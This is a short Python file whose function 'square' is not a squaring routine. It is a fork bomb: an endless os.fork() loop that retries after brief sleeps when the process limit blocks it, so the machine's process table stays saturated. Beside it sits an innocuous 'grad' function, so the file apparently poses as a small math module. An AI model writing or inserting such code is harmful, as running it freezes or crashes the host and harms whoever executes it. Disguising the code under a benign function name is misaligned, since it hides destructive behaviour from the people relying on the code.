"""Every process forks forever (pausing a moment when the process limit refuses it)."""
import os
import time


def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.02)


def grad(x):
    return x
